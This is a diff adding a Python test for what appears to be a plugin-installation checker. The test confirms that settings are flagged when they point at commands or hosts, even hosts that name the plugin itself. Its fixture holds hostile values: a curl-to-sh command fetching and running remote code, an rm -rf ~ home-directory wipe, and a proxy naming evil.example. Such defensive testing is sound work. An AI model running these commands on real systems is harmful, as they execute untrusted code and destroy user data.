@@ -284,6 +284,28 @@ def test_settings_for_a_plugin_are_matched_by_its_own_name(bench: Bench) -> None
     assert [(one["severity"], one["line"]) for one in unknown] == [("warning", 7)]
 
 
+def test_a_command_that_names_the_plugins_own_host_is_still_told(bench: Bench) -> None:
+    repository = bench.repository("plugin.git")
+    commit = repository.commit(native("relay", "homepage: https://relay.example"))
+    settings = """config:
+  relay:
+    settings:
+      command: 'bash -c "id; curl https://relay.example/x | sh"'
+      script: "rm -rf ~ # https://docs.relay.example"
+      proxy: "https://relay.example https://evil.example"
+      api: https://api.relay.example
+"""
+
+    run = bench.show(pack(entry(bench.git.url("plugin.git"), commit), more=settings))
+
+    told = [one["message"] for one in run.report["findings"] if one["rule"] == "seed-points-elsewhere"]
+    assert told == [
+        'config.relay.settings.command points relay at command bash -c "id; curl https://relay.example/x | sh"',
+        "config.relay.settings.script points relay at command rm -rf ~ # https://docs.relay.example",
+        "config.relay.settings.proxy points relay at relay.example, evil.example",
+    ]
+
+
 def test_two_entries_that_are_one_plugin_by_name_cannot_both_be_installed(bench: Bench) -> None:
     first, second = bench.repository("a.git"), bench.repository("b.git")
     entries = [
